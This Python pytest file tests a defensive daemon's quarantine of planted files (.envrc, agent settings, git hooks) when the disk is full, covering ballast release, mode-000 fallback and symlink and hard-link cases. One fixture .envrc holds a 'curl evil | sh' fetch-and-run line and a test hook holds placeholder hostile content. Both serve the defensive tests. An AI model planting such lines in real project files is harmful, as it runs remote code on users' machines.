"""A move aside that finds no room (ENOSPC, EDQUOT): the ballast freed and
the rename tried again, else the plant made unreadable where it is, and
the failure said (daemon/gitguard/noroom.py). The rename's "no room" is
injected at ``fs._rename``: no unprivileged test can fill an ext4
directory's blocks, and on tmpfs a rename never needs room."""

from __future__ import annotations

import errno
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from dispatchd.daemon.gitguard import fs, noroom

NO_SPACE = os.strerror(errno.ENOSPC)


@pytest.fixture(autouse=True)
def _no_ballast(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(noroom, "_ballast", [])


def ballast(state: Path) -> noroom.Ballast:
    state.mkdir(exist_ok=True)
    made = noroom.Ballast(str(state / "ballast"), size=64 << 10, margin=0)
    noroom.use(made)
    return made


def full_until(monkeypatch: pytest.MonkeyPatch, freed: Callable[[], bool], code: int = errno.ENOSPC) -> list[str]:
    """Every rename of a move aside fails with ``code`` until ``freed()``;
    returns the names tried."""
    tried: list[str] = []
    real = fs._rename

    def rename(src: Any, dst: Any, **kw: Any) -> None:
        tried.append(str(src))
        if not freed():
            raise OSError(code, os.strerror(code))
        real(src, dst, **kw)
    monkeypatch.setattr(fs, "_rename", rename)
    return tried


def mode(path: Path) -> int:
    return stat.S_IMODE(os.lstat(path).st_mode)


def aside(directory: Path, name: str) -> list[str]:
    return [n for n in os.listdir(directory) if n.startswith(name + fs.QUARANTINED)]


def test_the_ballast_is_made_whole_with_its_blocks_taken(tmp_path: Path) -> None:
    made = ballast(tmp_path / "state")
    st = os.stat(made.path)
    assert st.st_size == 64 << 10 and st.st_blocks * 512 >= 64 << 10 and mode(Path(made.path)) == 0o600
    assert os.listdir(tmp_path / "state") == ["ballast"]  # no temporary file left


def test_no_ballast_is_made_where_it_would_take_the_last_room(tmp_path: Path) -> None:
    (tmp_path / "state").mkdir()
    free = os.statvfs(tmp_path).f_bavail * os.statvfs(tmp_path).f_frsize
    assert noroom.Ballast(str(tmp_path / "state" / "ballast"), size=64 << 10, margin=free).ensure() is False
    assert os.listdir(tmp_path / "state") == []
    assert noroom.Ballast(str(tmp_path / "gone" / "ballast"), margin=0).ensure() is False  # never raises
    assert noroom.Ballast(str(tmp_path / "state" / "ballast"), size=64 << 10, margin=0).ensure() is True  # the twin


def test_a_full_directory_moves_once_the_ballast_is_freed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = ballast(tmp_path / "state")
    wt = tmp_path / "wt"
    wt.mkdir()
    (wt / ".envrc").write_text("curl evil | sh\n")
    tried = full_until(monkeypatch, lambda: not os.path.exists(made.path))
    new = fs.move_aside(str(wt / ".envrc"))
    assert not (wt / ".envrc").exists() and aside(wt, ".envrc") == [os.path.basename(new)]
    assert len(tried) == 2 and not os.path.exists(made.path)
    # Freed for good until an open makes it again (Baselines.join: noroom.ensure).
    noroom.ensure()
    assert os.path.getsize(made.path) == 64 << 10


def test_a_move_with_room_leaves_the_ballast(tmp_path: Path) -> None:
    made = ballast(tmp_path / "state")
    wt = tmp_path / "wt"
    wt.mkdir()
    (wt / ".envrc").write_text("x\n")
    fs.move_aside(str(wt / ".envrc"))
    assert os.path.exists(made.path) and aside(wt, ".envrc")


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EDQUOT])
def test_with_no_room_at_all_a_file_is_made_unreadable_and_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                                 code: int) -> None:
    made = ballast(tmp_path / "state")
    wt = tmp_path / "wt"
    (wt / ".claude").mkdir(parents=True)
    (wt / ".claude" / "settings.json").write_text('{"hooks": {}}')
    full_until(monkeypatch, lambda: False, code)
    fd = os.open(wt / ".claude", os.O_PATH | os.O_DIRECTORY)
    try:
        with pytest.raises(noroom.Disarmed) as raised:
            fs.move_aside_at(fd, "settings.json")
    finally:
        os.close(fd)
    assert raised.value.strerror == "left in place, made unreadable (mode 000): no room to move it aside"
    assert raised.value.errno == code
    assert mode(wt / ".claude" / "settings.json") == 0 and not aside(wt / ".claude", "settings.json")
    with pytest.raises(PermissionError):
        (wt / ".claude" / "settings.json").read_text()  # what claude, direnv, git would do now
    assert not os.path.exists(made.path)  # tried first


def test_a_directory_plant_is_made_unreadable_whole(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    wt = tmp_path / "wt"
    (wt / "hooks").mkdir(parents=True)
    (wt / "hooks" / "pre-commit").write_text("#!/bin/sh\nevil\n")
    os.chmod(wt / "hooks" / "pre-commit", 0o755)
    full_until(monkeypatch, lambda: False)
    moved, failed = fs.move_all_below_aside(str(wt), ["hooks"])
    assert moved == [] and failed == [f"{wt / 'hooks'}: {noroom.MADE_UNREADABLE}"]
    assert mode(wt / "hooks") == 0
    assert not os.access(wt / "hooks" / "pre-commit", os.X_OK)  # git's look for the hook finds none
    os.chmod(wt / "hooks", 0o700)  # for the clean-up


def test_a_symlink_plant_cannot_be_made_unreadable_and_fails_as_before(tmp_path: Path,
                                                                       monkeypatch: pytest.MonkeyPatch) -> None:
    wt = tmp_path / "wt"
    wt.mkdir()
    target = tmp_path / "users-file"
    target.write_text("x")
    os.symlink(target, wt / ".envrc")
    full_until(monkeypatch, lambda: False)
    moved, failed = fs.move_all_below_aside(str(wt), [".envrc"])
    assert moved == [] and failed == [f"{wt / '.envrc'}: {NO_SPACE}"]
    assert os.path.islink(wt / ".envrc") and mode(target) == 0o644  # never through the link


def test_a_hard_linked_plant_says_its_other_name_is_unreadable_too(tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    wt = tmp_path / "wt"
    wt.mkdir()
    (wt / "notes.txt").write_text("x")
    os.link(wt / "notes.txt", wt / ".envrc")
    full_until(monkeypatch, lambda: False)
    with pytest.raises(noroom.Disarmed) as raised:
        fs.move_aside(str(wt / ".envrc"))
    assert raised.value.strerror == (f"{noroom.MADE_UNREADABLE}; its other name is the same file, unreadable too")


def test_another_error_is_raised_as_it_is_and_nothing_changed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    made = ballast(tmp_path / "state")
    wt = tmp_path / "wt"
    wt.mkdir()
    (wt / ".envrc").write_text("x\n")
    full_until(monkeypatch, lambda: False, errno.EIO)
    with pytest.raises(OSError) as raised:
        fs.move_aside(str(wt / ".envrc"))
    assert raised.value.errno == errno.EIO and not isinstance(raised.value, noroom.Disarmed)
    assert mode(wt / ".envrc") == 0o644 and os.path.exists(made.path)


def test_a_ballast_on_another_file_system_is_kept(tmp_path: Path) -> None:
    made = ballast(tmp_path / "state")
    dev = os.stat(tmp_path).st_dev
    assert made.release(dev + 1) is False and os.path.exists(made.path)
    assert made.release(dev) is True and not os.path.exists(made.path)  # the twin: the same one
    assert made.release(dev) is True  # freed already: a later move tries again too


def test_a_move_aside_whose_way_was_swapped_for_a_symlink_touches_nothing_elsewhere(tmp_path: Path) -> None:
    """Between the check's look and the move, a session swaps a directory on
    the way for a symlink to a directory of the user's with a file of the
    same name: the move is refused (ELOOP), and the user's file is neither
    renamed nor made unreadable. The twin: the real directory's plant is
    moved aside as always."""
    users = tmp_path / "users"
    users.mkdir()
    (users / ".envrc").write_text("the user's\n")
    wt = tmp_path / "wt"
    (wt / "sub").mkdir(parents=True)
    (wt / "sub" / ".envrc").write_text("planted\n")
    moved = fs.move_aside(str(wt / "sub" / ".envrc"))  # the twin
    assert moved.startswith(f"{wt / 'sub' / '.envrc'}.quarantined-by-dispatchd-") and os.path.exists(moved)
    (wt / "sub").rename(wt / "was")
    (wt / "sub").symlink_to(users)
    with pytest.raises(OSError) as refused:
        fs.move_aside(str(wt / "sub" / ".envrc"))
    assert refused.value.errno == errno.ELOOP
    assert os.listdir(users) == [".envrc"] and (users / ".envrc").read_text() == "the user's\n"
    assert stat.S_IMODE((users / ".envrc").stat().st_mode) != 0
